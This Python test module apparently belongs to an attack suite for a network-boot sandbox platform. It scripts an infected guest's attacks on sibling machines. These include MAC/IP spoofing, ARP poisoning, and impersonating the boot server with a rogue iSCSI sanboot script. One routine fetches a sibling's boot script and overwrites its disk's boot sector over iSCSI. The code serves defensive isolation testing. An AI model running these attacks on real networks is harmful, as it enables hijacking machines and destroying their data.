"""In another's place on the wire: MAC address, IP address, or both."""

from __future__ import annotations

import contextlib
import http.server
import os
import random
import socket
import struct
import threading
import time

from tests.attacks import frames
from tests.attacks.infected import BRIEF, Infected, Peer, parse_script, seconds
from tests.attacks.moves import primitive
from tests.attacks.moves.http import made_up_mac, script_of
from tests.attacks.pdus import Sender
from tests.netboot.network import inside

BAIT = b"this sector is not of the golden image".ljust(512, b"\0")


def ask_for_script(me: Infected, victim: Peer) -> str:
    """Ask the boot listener for a sibling's script, as whoever this thread is now."""
    with me.connect(me.knows.server, me.knows.boot_port) as one:
        one.sendall(script_of(victim.mac).encode())
        said = b""
        while chunk := one.recv(65536):
            said += chunk
            if b"\r\n\r\n" in said:
                break
    return said.decode(errors="replace")


def spoil(script: str) -> None:
    """Log in with what a sibling's script says, and write over the boot sector."""
    one = Sender(parse_script(script), int.from_bytes(os.urandom(5), "big"))
    one.socket.settimeout(BRIEF)
    try:
        one.connect()
        one.security()
        one.finish()
        for lba in (0, 100):
            cdb = struct.pack(">BBQIBB", 0x8A, 0, lba, 1, 0, 0)
            one.command(cdb, flags=0xA0, expected=512, data=BAIT)
            one.answer()
    finally:
        one.close()


def hunt(me: Infected, victim: Peer, length: float) -> str:
    """Ask for a sibling's script again and again, and use it once there is one."""
    asked = 0
    for _ in seconds(length):
        try:
            asked += 1
            script = ask_for_script(me, victim)
            if "sanboot" in script:
                spoil(script)
                return f"written over the disk of {victim.label}"
        except (OSError, ValueError):
            pass
        time.sleep(0.05)
    return f"asked {asked} times for {victim.label}"


@primitive("place.both", takes_place=True)
def both(me: Infected, dice: random.Random) -> str:
    """Take a sibling's MAC and IP address, ask for its script, and write to its disk with it."""
    victim = me.victim(dice)
    with me.second_card(victim.mac, victim.ip) as where, inside(where):
        return hunt(me, victim, dice.uniform(0.3, 2.0))


@primitive("place.ip", takes_place=True)
def address(me: Infected, dice: random.Random) -> str:
    """Take a sibling's IP address under a MAC address of nobody, and ask for its script."""
    victim = me.victim(dice)
    with me.second_card(made_up_mac(dice), victim.ip) as where, inside(where):
        return hunt(me, victim, dice.uniform(0.3, 1.5))


@primitive("place.own-mac", takes_place=True)
def own_mac(me: Infected, dice: random.Random) -> str:
    """Take a sibling's IP address on its own card, and answer there: its own RPC and agent do."""
    victim = me.victim(dice)
    with me.second_address(victim.ip):
        for _ in seconds(dice.uniform(0.3, 1.5)):
            me.send(frames.arp(me.own.hardware, victim.ip))
            time.sleep(0.3)
    return f"as {victim.label}"


@primitive("place.mac", takes_place=True)
def mac(me: Infected, dice: random.Random) -> str:
    """Send under a sibling's MAC address, so that the switch sends here what is for it."""
    victim = me.victim(dice)
    for _ in seconds(dice.uniform(0.1, 0.8)):
        me.send(frames.ethernet(me.server_mac(), victim.hardware, 0x88B5, b""))
        time.sleep(0.05)
    return victim.label


@primitive("place.alive", takes_place=True)
def alive(me: Infected, dice: random.Random) -> str:
    """Be a sibling that is on and well, whatever it is: its addresses, RPC, agent, ping."""
    victim = me.victim(dice)
    with me.second_card(victim.mac, victim.ip) as where, inside(where):
        return played(victim, dice.uniform(0.3, 1.5))


@primitive("place.server", takes_place=True)
def server(me: Infected, dice: random.Random) -> str:
    """Be the server: its address, and scripts that boot from elsewhere."""
    with me.second_card(made_up_mac(dice), me.knows.server) as where, inside(where):
        bad = f"#!ipxe\nsanboot iscsi:{me.own.ip}::3260:1:iqn.2026-01.org.example:bad\n"
        with serving(me.knows.boot_port, bad.encode()):
            time.sleep(dice.uniform(0.1, 0.6))
    return ""


def played(victim: Peer, length: float) -> str:
    """Answer on RPC's port and on the agent's for so many seconds."""
    agent = serving(8000, b'{"message": "CAPE Agent!", "version": "0.1"}', victim.ip)
    with agent, socket.create_server((victim.ip, 135)) as rpc:
        rpc.settimeout(BRIEF)
        for _ in seconds(length):
            with contextlib.suppress(TimeoutError):
                rpc.accept()[0].close()
    return f"as {victim.label}"


class serving:  # noqa: N801 - a context manager
    """An HTTP server that has one answer to everything."""

    def __init__(self, port: int, answer: bytes, address: str = "") -> None:
        class Answers(http.server.BaseHTTPRequestHandler):
            def log_message(self, *_: object) -> None: ...

            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Length", str(len(answer)))
                self.end_headers()
                self.wfile.write(answer)

        self._server = http.server.ThreadingHTTPServer((address, port), Answers)

    def __enter__(self) -> None:
        threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True).start()

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()
